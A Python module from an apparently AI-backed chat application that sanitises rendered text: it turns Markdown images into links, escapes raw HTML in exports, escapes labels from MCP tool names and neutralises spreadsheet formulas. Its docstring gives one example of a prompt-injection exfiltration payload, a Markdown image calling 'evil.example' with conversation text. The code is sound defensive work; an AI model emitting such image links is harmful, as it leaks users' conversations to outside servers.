"""Making conversation text safe to show: no remote images, no raw HTML in exports, no markup in labels,
no formulas in spreadsheets.

Replies and messages are rendered as Markdown. An image in Markdown is fetched by the browser as soon as it is
shown, so a reply steered by prompt injection (``![x](https://evil.example/?q=<conversation text>)``) could
send conversation text to a stranger's server. Images are therefore turned into ordinary links, which stay
visible and load nothing until someone chooses to follow them. The chat never renders raw HTML; a Markdown
export is read in other viewers, which may, so there a tag is written as text (``without_raw_html``).

Names and descriptions that others choose (tool names and descriptions from MCP servers, titles) go into
titles, captions and labels through ``escape_markdown``, so they always show as the literal text they are.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

# "![" opens an inline (``![alt](url)``) or reference (``![alt][ref]``) image; without its "!" it is a link.
_IMAGE_OPENER = re.compile(r"!\[")
IMAGE_LINK_PREFIX = "["
IMAGE_LABEL = "Image: "
_MARKDOWN_SPECIALS = frozenset("\\`*_{}[]()#+-.!<>|~:$&=@")
# A fenced code block shows tags as text already; everywhere else (inline code too: its edges are easy to
# fake with escaped backticks) "<" opening a tag, comment or declaration is what a viewer renders as HTML.
# Only a fence at the line's start is taken as one: an indented one may belong to a list item that the next
# unindented line ends, closing the code block early (and a tag after it would render).
_FENCE = re.compile(r"^(`{3,}|~{3,})([^\n]*)\n", re.MULTILINE)
_TAG_OPENER = re.compile(r"<(?=[A-Za-z/!?])")
# A cell that a spreadsheet would run as a formula (OWASP's list: = + - @, tab and carriage return).
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def without_remote_images(text: str) -> str:
    """``text`` with every Markdown image made a text link (``![a](u)`` -> ``[Image: a](u)``)."""
    return _IMAGE_OPENER.sub(IMAGE_LINK_PREFIX + IMAGE_LABEL, text)


def stream_without_remote_images(chunks: Iterable[str]) -> Iterator[str]:
    """``without_remote_images`` for a streamed reply: a "!" that ends a chunk waits for the next one, so an
    image split across two chunks is caught too."""
    pending = ""
    for chunk in chunks:
        text = pending + chunk
        pending = "!" if text.endswith("!") else ""
        text = text[:-1] if pending else text
        if text:
            yield without_remote_images(text)
    if pending:
        yield pending


def without_raw_html(text: str) -> str:
    """``text`` with every HTML tag outside fenced code written as text (``<img ...>`` -> ``&lt;img ...>``),
    so a Markdown viewer shows it instead of rendering it (an ``<img>`` would load at once)."""
    parts, start = [], 0
    while (fence := _FENCE.search(text, start)) is not None:
        mark, info = fence.group(1), fence.group(2)
        if mark[0] == "`" and "`" in info:  # not a fence (CommonMark): ordinary text
            parts.append(_TAG_OPENER.sub("&lt;", text[start : fence.end()]))
            start = fence.end()
            continue
        closing = re.compile(rf"^ {{0,3}}{re.escape(mark)}{re.escape(mark[0])}*[ \t]*$", re.MULTILINE)
        end = closing.search(text, fence.end())
        stop = end.end() if end is not None else len(text)  # an unclosed fence runs to the end
        parts += [_TAG_OPENER.sub("&lt;", text[start : fence.start()]), text[fence.start() : stop]]
        start = stop
    parts.append(_TAG_OPENER.sub("&lt;", text[start:]))
    return "".join(parts)


def escape_markdown(text: str) -> str:
    """``text`` shown literally where Markdown is rendered (titles in labels and headings): no links,
    images, headings or emphasis, whatever the text contains."""
    return "".join("\\" + char if char in _MARKDOWN_SPECIALS else char for char in text)


def spreadsheet_safe(value: object) -> object:
    """A CSV cell a spreadsheet shows as text: strings that would start a formula get a leading quote."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value
